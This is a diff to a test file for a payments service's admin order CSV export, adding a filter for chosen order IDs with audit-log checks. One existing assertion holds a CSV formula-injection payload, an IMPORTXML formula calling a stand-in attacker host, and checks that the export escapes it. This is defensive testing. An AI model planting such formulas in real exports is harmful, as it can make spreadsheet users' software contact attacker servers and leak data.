@@ -4,8 +4,8 @@ import { describe, expect, it } from 'vitest';
 import { bootPayments, media, type PaymentsFixture } from './boot-payments.ts';
 import { admin, buy, start } from './orders-fixture.ts';
 
-const csvOf = (fixture: PaymentsFixture, user = admin) =>
-  fetch(`${fixture.service.url}/admin/orders.csv`, { headers: { authorization: `Bearer ${tokenOf(user)}` } });
+const csvOf = (fixture: PaymentsFixture, query = '', user = admin) =>
+  fetch(`${fixture.service.url}/admin/orders.csv${query}`, { headers: { authorization: `Bearer ${tokenOf(user)}` } });
 const statusOf = (promise: Promise<unknown>) =>
   promise.then(
     () => 200,
@@ -136,7 +136,7 @@ describe('orders for admins', () => {
 
     expect(new Set(await doors('visitor'))).toEqual(new Set([401]));
     expect(new Set(await doors(testUser()))).toEqual(new Set([403]));
-    expect((await csvOf(fixture, testUser())).status).toBe(403);
+    expect((await csvOf(fixture, '', testUser())).status).toBe(403);
   });
 });
 
@@ -159,6 +159,22 @@ describe('orders as CSV', () => {
     expect(lines[2]).toContain(`"'=IMPORTXML(""https://evil.example"")"`);
     expect(lines[2]).toContain('"सतरंगी, ""the"" book (ebook, text)"');
     expect(lines[2]).toContain(',499,499,INR,paid,cashfree,');
+  });
+});
+
+describe('chosen orders as CSV', () => {
+  it('are the named ones, and the log has who took them (BEY-07)', async () => {
+    await using fixture = await bootPayments();
+    const { orderId } = await give(fixture);
+    await give(fixture);
+
+    const text = await (await csvOf(fixture, `?ids=${orderId},unknown`)).text();
+    const acts = (await fixture.service.auditEvents()).map(({ data }) => data);
+
+    expect(text.trimEnd().split('\r\n')).toHaveLength(2);
+    expect(text).toContain(orderId);
+    expect(acts).toMatchObject([{ call: 'payments.downloadOrders' }]);
+    expect((await csvOf(fixture, `?ids=${orderId},%20`)).status).toBe(400);
   });
 });
 
